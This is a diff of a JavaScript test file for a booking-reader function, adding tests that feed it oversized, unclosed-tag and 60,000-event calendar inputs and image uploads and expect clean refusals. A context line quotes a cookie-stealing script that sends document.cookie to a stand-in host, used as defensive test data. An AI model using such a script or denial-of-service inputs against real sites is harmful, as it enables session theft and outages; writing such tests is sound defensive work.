@@ -109,6 +109,15 @@ describe('readBookings: hostile e-mails and HTML', () => {
     );
   }, 5000);
 
+  it('reads text of endless unclosed tags in linear time', async () => {
+    const unclosedTags = `<html>${'<a'.repeat(2_000_000)}`;
+    const unclosedScripts = `<html><script type="application/ld+json">{"@type":"LodgingReservation","reservationFor":{"name":"${'<script'.repeat(500_000)}"}}</script>`;
+    const endlessTypes = '{"@type": "LodgingReservation", '.repeat(300_000);
+    for (const text of [unclosedTags, unclosedScripts, endlessTypes]) {
+      await expect(readBookings({ text })).rejects.toEqual(refused('no_booking_found'));
+    }
+  }, 10_000);
+
   it('keeps no script, tag or handler of the HTML in a draft: values are plain text', async () => {
     const html = `<html><head><script>fetch('https://evil.example.test/'+document.cookie)</script>
       <script type="application/ld+json">{"@context":"http://schema.org","@type":"LodgingReservation",
@@ -183,6 +192,36 @@ describe('readBookings: other hostile input', () => {
     );
     await expect(readBookings(file(new Uint8Array(11 * 1024 * 1024)))).rejects.toEqual(
       expect.objectContaining({ status: 413, code: 'file_too_large' }),
+    );
+  }, 5000);
+
+  it('answers a picture of a ticket with an unsupported file type', async () => {
+    const png = Uint8Array.from(
+      Buffer.from(
+        'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
+        'base64',
+      ),
+    );
+    const jpeg = Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0]);
+    for (const bytes of [png, jpeg]) {
+      await expect(readBookings(file(bytes))).rejects.toEqual(
+        expect.objectContaining({
+          status: 422,
+          code: 'unsupported_file_type',
+          message:
+            'A picture of a ticket cannot be read; send the confirmation e-mail, its PDF, a calendar file or a Wallet pass.',
+        }),
+      );
+    }
+  });
+
+  it('refuses a calendar of sixty thousand events without parsing it', async () => {
+    const event =
+      'BEGIN:VEVENT\r\nDTSTART;TZID=Europe/Lisbon:20270314T100500\r\nSUMMARY:x\r\nEND:VEVENT\r\n';
+    await expect(
+      readBookings({ text: `BEGIN:VCALENDAR\r\n${event.repeat(60_000)}END:VCALENDAR\r\n` }),
+    ).rejects.toEqual(
+      refused('unreadable_file', 'This calendar file holds too many events (1,000 at most).'),
     );
   }, 5000);
 
